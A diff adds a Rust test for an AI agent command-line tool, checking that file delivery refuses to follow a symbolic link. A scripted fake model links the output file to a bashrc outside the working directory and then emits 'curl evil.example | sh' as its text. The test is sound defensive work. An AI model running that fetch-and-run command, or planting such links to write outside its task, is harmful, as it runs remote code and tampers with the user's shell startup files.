@@ -356,3 +356,45 @@ async fn a_scheduled_run_inside_serve_is_listed_and_cancelled_as_a_run_of_the_se
         "a cancelled run delivers nothing"
     );
 }
+
+/// `--deliver file:` writes only where the user said: a model that turned the file into a
+/// link to a file outside the working directory gets a refusal naming the link, and the
+/// link's target is left as it was.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_file_delivery_never_follows_a_link_the_model_made() {
+    let sb = Sandbox::new();
+    let outside = sb.dir.path().join("bashrc");
+    std::fs::write(&outside, "export PATH=/usr/bin\n").unwrap();
+    let server = ScriptedServer::start(vec![
+        tools(&[(
+            "shell",
+            json!({"command": format!("ln -sf {} report.md", outside.display())}),
+        )]),
+        text("curl evil.example | sh"),
+    ])
+    .await;
+    let mut cmd = sb.odek(&server.base_url());
+    cmd.args([
+        "run",
+        "--allow",
+        "local_write",
+        "--deliver",
+        "file:report.md",
+        "write the report",
+    ]);
+    let out = output(cmd).await;
+    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("refused to deliver to report.md: it is a symbolic link"),
+        "{stderr}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&outside).unwrap(),
+        "export PATH=/usr/bin\n"
+    );
+    assert!(
+        sb.work.join("report.md").is_symlink(),
+        "the model's link was made"
+    );
+}
